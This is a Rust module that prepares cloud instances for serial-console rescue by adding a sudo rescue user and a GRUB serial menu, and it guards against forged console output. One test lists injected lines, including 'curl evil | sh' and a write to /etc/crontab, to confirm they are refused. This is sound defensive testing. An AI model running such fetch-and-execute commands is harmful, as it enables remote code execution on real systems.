//! `prepare`: make an instance rescuable while it can still be reached.
//!
//! Two things let a serial console reach a machine later, whatever breaks:
//! a password user with sudo (the login path), and GRUB's menu on the
//! serial port with a countdown long enough to stop (the GRUB path,
//! [`crate::rescue`]). [`examine`] reads what the machine has in one root
//! command, [`plan`] decides what must change (nothing that is already
//! right), and [`apply`] changes it in one more. Check mode stops after the
//! plan; a second run plans nothing.
//!
//! The rescue user's password never crosses the console: only its SHA-512
//! crypt hash does (`chpasswd -e`, fed by the login shell's own `printf`:
//! in no process's argv, not in sudo's log), and the session redacts that too.
//!
//! What the machine answers is read as untrusted text (another program may
//! write to the console meanwhile, e.g. `wall`): every answer line carries
//! a nonce of this run, only known paths, groups and commands are taken, a
//! line that comes twice is an error, and the GRUB file is rewritten only
//! if it still hashes to the text the plan was made from.

mod grub_defaults;

use crate::doctor::facts::UserName;
use crate::doctor::RootConsole;
use crate::error::{Error, Result};

/// Ubuntu's cloud images keep their GRUB settings here, overriding
/// `/etc/default/grub`.
const UBUNTU_CLOUD: &str = "/etc/default/grub.d/50-cloudimg-settings.cfg";

/// What to prepare.
#[derive(Debug, Clone)]
pub(crate) struct PrepareRequest {
    /// The password user to create when missing (with sudo).
    pub rescue_user: UserName,
}

/// What the machine has.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) struct PrepareFacts {
    /// Whether the rescue user exists.
    pub user_exists: bool,
    /// The group that gives sudo (`sudo` on Debian/Ubuntu, `wheel` on
    /// RHEL/Amazon Linux), if there is one.
    pub admin_group: Option<String>,
    /// The GRUB defaults file and its text, if there is one.
    pub grub: Option<(String, String)>,
    /// The command that regenerates GRUB's menu from the defaults.
    pub regenerate: Option<&'static str>,
}

/// The GRUB defaults files this module reads and writes.
const GRUB_FILES: [&str; 2] = ["/etc/default/grub", UBUNTU_CLOUD];

/// What regenerates GRUB's menu, by the first program the machine has.
const REGENERATE: [(&str, &str); 3] = [
    ("update-grub", "update-grub"),
    ("grub2-mkconfig", "grub2-mkconfig -o /boot/grub2/grub.cfg"),
    ("grub-mkconfig", "grub-mkconfig -o /boot/grub/grub.cfg"),
];

/// One change the plan makes.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(crate) enum Change {
    /// Create the rescue user with a password, in the admin group.
    CreateUser {
        /// The user.
        user: UserName,
        /// `sudo` or `wheel`, when the machine has one.
        group: Option<String>,
    },
    /// Rewrite GRUB's defaults, then regenerate the menu.
    GrubDefaults {
        /// The file.
        path: String,
        /// Its new text.
        text: String,
        /// The changed lines (`-old`, `+new`).
        diff: Vec<String>,
        /// What regenerates the menu.
        regenerate: &'static str,
        /// SHA-256 (hex) of the text the plan was made from: the file is
        /// rewritten only if it still holds exactly that.
        before_sha256: String,
    },
}

/// What [`plan`] decided.
#[derive(Debug, Clone, Default)]
pub(crate) struct Plan {
    /// The changes, in the order they run.
    pub changes: Vec<Change>,
    /// What is already right, or cannot be done here, in words.
    pub notes: Vec<String>,
}

impl Plan {
    /// Whether the plan creates a user (and so needs a password).
    pub(crate) fn creates_user(&self) -> bool {
        self.changes
            .iter()
            .any(|c| matches!(c, Change::CreateUser { .. }))
    }
}

/// Reads what the machine has, as root.
pub(crate) async fn examine(
    console: &mut dyn RootConsole,
    req: &PrepareRequest,
) -> Result<PrepareFacts> {
    let user = req.rescue_user.as_str();
    let tag = format!("@@{}", nonce()?);
    let regenerate: String = REGENERATE
        .iter()
        .enumerate()
        .map(|(i, (program, _))| {
            let word = if i == 0 { "if" } else { "elif" };
            format!("{word} command -v {program} >/dev/null; then echo '{tag} regen {program}'; ")
        })
        .collect();
    let script = format!(
        "u={user}; if id -u \"$u\" >/dev/null 2>&1; then echo '{tag} user yes'; else echo '{tag} user no'; fi; \
         for g in sudo wheel; do if getent group \"$g\" >/dev/null; then echo \"{tag} group $g\"; break; fi; done; \
         f={}; [ -f {UBUNTU_CLOUD} ] && f={UBUNTU_CLOUD}; \
         if [ -f \"$f\" ]; then echo \"{tag} grub $f $(base64 -w0 <\"$f\")\"; fi; \
         {regenerate}fi",
        GRUB_FILES[0]
    );
    let (output, status) = console.run_as_root(&script).await?;
    if status != 0 {
        return Err(Error::problems(format!(
            "reading the machine's users and GRUB settings failed ({status}): {}",
            output.trim()
        )));
    }
    parse(&output, &tag)
}

/// 16 random hex digits: what marks this run's answer lines (not a
/// secret, only unguessable by a program writing to the console).
fn nonce() -> Result<String> {
    use ring::rand::SecureRandom;
    let mut bytes = [0u8; 8];
    ring::rand::SystemRandom::new()
        .fill(&mut bytes)
        .map_err(|_| {
            Error::io(
                "drawing a random nonce",
                std::io::Error::other("no randomness"),
            )
        })?;
    Ok(bytes.iter().map(|b| format!("{b:02x}")).collect())
}

/// The answer to [`examine`]'s script: only lines with this run's `tag`,
/// only known values, each at most once.
fn parse(output: &str, tag: &str) -> Result<PrepareFacts> {
    let mut facts = PrepareFacts {
        user_exists: false,
        admin_group: None,
        grub: None,
        regenerate: None,
    };
    let unexpected = |line: &str| {
        Error::problems(format!(
            "the console's answer holds a line this run did not ask for ({line:?}): another \
             program may be writing to the console (e.g. `wall`); nothing was changed, try again"
        ))
    };
    let mut seen = std::collections::HashSet::new();
    for line in output.lines().map(str::trim) {
        let Some(rest) = line.strip_prefix(tag).and_then(|r| r.strip_prefix(' ')) else {
            continue;
        };
        let (key, value) = rest.split_once(' ').unwrap_or((rest, ""));
        if !seen.insert(key.to_string()) {
            return Err(unexpected(line));
        }
        match key {
            "user" if value == "yes" || value == "no" => facts.user_exists = value == "yes",
            "group" if value == "sudo" || value == "wheel" => {
                facts.admin_group = Some(value.to_string())
            }
            "grub" => {
                let (path, encoded) = value.split_once(' ').unwrap_or((value, ""));
                if !GRUB_FILES.contains(&path) {
                    return Err(unexpected(line));
                }
                let text = base64_decode(encoded).ok_or_else(|| {
                    Error::problems(format!("the machine's {path} came back damaged; try again"))
                })?;
                facts.grub = Some((path.to_string(), text));
            }
            "regen" => {
                let (_, command) = REGENERATE
                    .iter()
                    .find(|(program, _)| *program == value)
                    .ok_or_else(|| unexpected(line))?;
                facts.regenerate = Some(command);
            }
            _ => return Err(unexpected(line)),
        }
    }
    if !seen.contains("user") {
        return Err(Error::problems(format!(
            "the console's answer was not in the expected shape: {:?}",
            output.trim()
        )));
    }
    Ok(facts)
}

fn base64_decode(text: &str) -> Option<String> {
    use base64::Engine;
    let bytes = base64::engine::general_purpose::STANDARD
        .decode(text.trim())
        .ok()?;
    String::from_utf8(bytes).ok()
}

/// The root command that rewrites GRUB's defaults file `path` to `text`
/// and regenerates the menu: only if the file still hashes to
/// `before_sha256` (the text the plan was made from), keeping the file as
/// it was before the first `prepare` (`.ese-backup`, never overwritten),
/// and putting the old file back if the menu cannot be regenerated.
fn grub_rewrite(path: &str, text: &str, regenerate: &str, before_sha256: &str) -> String {
    use base64::Engine;
    let encoded = base64::engine::general_purpose::STANDARD.encode(text);
    let p = shell_words::quote(path);
    format!(
        "set -e; [ \"$(sha256sum <{p} | cut -d' ' -f1)\" = {before_sha256} ] || \
         {{ echo '{path} changed since it was read: nothing was changed, run prepare again'; exit 1; }}; \
         [ -e {p}.ese-backup ] || cp -p {p} {p}.ese-backup; cp -p {p} {p}.ese-prev; \
         printf %s '{encoded}' | base64 -d >{p}.ese-new; \
         chmod 0644 {p}.ese-new; mv {p}.ese-new {p}; \
         {regenerate} >/dev/null 2>&1 || {{ mv {p}.ese-prev {p}; \
         echo '{regenerate} failed: {path} was put back as it was'; exit 1; }}; rm -f {p}.ese-prev; sync"
    )
}

fn sha256_hex(text: &str) -> String {
    use sha2::{Digest, Sha256};
    Sha256::digest(text.as_bytes())
        .iter()
        .map(|b| format!("{b:02x}"))
        .collect()
}

/// Whether GRUB's menu is on the serial console and waits (what the GRUB
/// path needs), or why not.
pub(crate) fn grub_ready(facts: &PrepareFacts) -> std::result::Result<(), String> {
    match &facts.grub {
        None => Err("no /etc/default/grub (another boot loader?)".into()),
        Some((path, text)) if grub_defaults::with_serial_menu(text) != *text => Err(format!(
            "{path} does not put a waiting menu on the serial console: run `prepare`"
        )),
        Some(_) => Ok(()),
    }
}

/// What must change for both rescue paths to work.
pub(crate) fn plan(facts: &PrepareFacts, req: &PrepareRequest) -> Plan {
    let mut plan = Plan::default();
    let user = req.rescue_user.as_str();
    if facts.user_exists {
        plan.notes.push(format!(
            "user {user} exists: left as it is (its password is not changed)"
        ));
    } else {
        plan.changes.push(Change::CreateUser {
            user: req.rescue_user.clone(),
            group: facts.admin_group.clone(),
        });
        if facts.admin_group.is_none() {
            plan.notes.push(format!(
                "no sudo or wheel group: {user} will log in but not have sudo; add a sudoers rule"
            ));
        }
    }
    match (&facts.grub, &facts.regenerate) {
        (Some((path, text)), Some(regenerate)) => {
            let after = grub_defaults::with_serial_menu(text);
            let diff = grub_defaults::diff(text, &after);
            if diff.is_empty() {
                plan.notes.push(format!(
                    "GRUB: {path} already puts the menu on the serial console"
                ));
            } else {
                plan.changes.push(Change::GrubDefaults {
                    path: path.clone(),
                    text: after,
                    diff,
                    regenerate,
                    before_sha256: sha256_hex(text),
                });
            }
        }
        (Some((path, _)), None) => plan.notes.push(format!(
            "GRUB: {path} is there but no update-grub or grub2-mkconfig to regenerate the menu; \
             the GRUB path is not prepared"
        )),
        (None, _) => plan.notes.push(
            "GRUB: no /etc/default/grub (another boot loader?): the GRUB path is not prepared"
                .into(),
        ),
    }
    plan
}

/// Applies `plan` as root, one command per change, each synced to disk (a
/// rescue that follows resets the machine without a shutdown);
/// `password_hash` is the
/// rescue user's crypt hash (needed when the plan creates the user). The
/// user's command stays short, so it is typed as is and the session's
/// redaction of the hash covers it (a long command is typed over several
/// lines, where redaction, which sees one line at a time, could miss it).
pub(crate) async fn apply(
    console: &mut dyn RootConsole,
    plan: &Plan,
    password_hash: Option<&str>,
) -> Result<()> {
    for change in &plan.changes {
        let (output, status) = match change {
            Change::CreateUser { user, group } => {
                let hash = password_hash
                    .ok_or_else(|| Error::usage("creating the rescue user needs its password"))?;
                let name = user.as_str();
                let group = group
                    .as_deref()
                    .map(|g| format!(" -G {}", shell_words::quote(g)))
                    .unwrap_or_default();
                let created = console
                    .run_as_root(&format!(
                        "useradd -m -s /bin/bash{group} {}",
                        shell_words::quote(name)
                    ))
                    .await?;
                if created.1 != 0 {
                    created
                } else {
                    let set = console
                        .run_as_root_with_input(&format!("{name}:{hash}"), "chpasswd -e")
                        .await?;
                    if set.1 == 0 {
                        console.run_as_root("sync").await?
                    } else {
                        set
                    }
                }
            }
            Change::GrubDefaults {
                path,
                text,
                regenerate,
                before_sha256,
                ..
            } => {
                console
                    .run_as_root(&grub_rewrite(path, text, regenerate, before_sha256))
                    .await?
            }
        };
        if status != 0 {
            return Err(Error::problems(format!(
                "preparing failed ({status}): {}",
                output.trim()
            )));
        }
    }
    Ok(())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn facts() -> PrepareFacts {
        PrepareFacts {
            user_exists: false,
            admin_group: Some("sudo".into()),
            grub: Some((
                "/etc/default/grub".into(),
                "GRUB_TIMEOUT=0\nGRUB_CMDLINE_LINUX=\"console=ttyS0\"\n".into(),
            )),
            regenerate: Some("update-grub"),
        }
    }

    fn request() -> PrepareRequest {
        PrepareRequest {
            rescue_user: UserName::parse("rescue").unwrap(),
        }
    }

    #[test]
    fn a_fresh_machine_gets_a_user_and_a_serial_menu_and_a_prepared_one_nothing() {
        let plan = plan(&facts(), &request());
        assert_eq!(plan.changes.len(), 2, "{plan:?}");
        assert!(plan.creates_user());
        let Change::GrubDefaults { text, .. } = &plan.changes[1] else {
            panic!("{plan:?}")
        };
        let prepared = PrepareFacts {
            user_exists: true,
            grub: Some(("/etc/default/grub".into(), text.clone())),
            ..facts()
        };
        let again = super::plan(&prepared, &request());
        assert!(again.changes.is_empty(), "{again:?}");
        assert!(!again.creates_user());
    }

    #[test]
    fn the_facts_parse_and_a_strange_answer_is_refused() {
        use base64::Engine;
        let text = "GRUB_TIMEOUT=5\n";
        let encoded = base64::engine::general_purpose::STANDARD.encode(text);
        let out = format!(
            "@@n1 user no\n@@n1 group wheel\n@@n1 grub /etc/default/grub {encoded}\n@@n1 regen grub2-mkconfig\n"
        );
        let facts = parse(&out, "@@n1").unwrap();
        assert_eq!(facts.admin_group.as_deref(), Some("wheel"));
        assert_eq!(facts.grub, Some(("/etc/default/grub".into(), text.into())));
        assert_eq!(
            facts.regenerate,
            Some("grub2-mkconfig -o /boot/grub2/grub.cfg")
        );
        assert!(parse("bash: command not found", "@@n1").is_err());
        // Lines without this run's tag are not answers.
        let other = format!("@@xx regen update-grub\n{out}");
        assert_eq!(parse(&other, "@@n1").unwrap(), facts);
    }

    /// What another program writes to the console (`wall`) cannot steer a
    /// root action: unknown values, paths and commands, and second copies
    /// of an answer are refused.
    #[test]
    fn forged_answer_lines_are_refused() {
        let good = "@@n1 user no\n@@n1 regen update-grub\n";
        for forged in [
            "@@n1 regen sh -c 'curl evil | sh'",
            "@@n1 regen update-grub",
            "@@n1 grub /etc/crontab Kg==",
            "@@n1 group root",
            "@@n1 user no",
            "@@n1 shell yes",
        ] {
            let out = format!("{good}{forged}\n");
            assert!(parse(&out, "@@n1").is_err(), "{forged} was taken");
        }
    }

    #[test]
    fn the_grub_rewrite_checks_the_file_is_unchanged_and_restores_on_failure() {
        let command = grub_rewrite("/etc/default/grub", "X=1\n", "update-grub", "abc123");
        assert!(
            command.starts_with("set -e; [ \"$(sha256sum </etc/default/grub"),
            "{command}"
        );
        assert!(command.contains("= abc123 ]"), "{command}");
        assert!(
            command.contains("[ -e /etc/default/grub.ese-backup ] || cp -p"),
            "the first backup is kept: {command}"
        );
        assert!(
            command.contains(
                "update-grub >/dev/null 2>&1 || { mv /etc/default/grub.ese-prev /etc/default/grub;"
            ),
            "{command}"
        );
        assert_eq!(
            sha256_hex("abc"),
            "ba7816bf8f01cfea414140de5dae2223b00361a396177a9cb410ff61f20015ad"
        );
    }

    #[test]
    fn no_grub_is_a_note_not_a_change() {
        let plan = plan(
            &PrepareFacts {
                grub: None,
                regenerate: None,
                ..facts()
            },
            &request(),
        );
        assert_eq!(plan.changes.len(), 1);
        assert!(plan
            .notes
            .iter()
            .any(|n| n.contains("no /etc/default/grub")));
    }
}
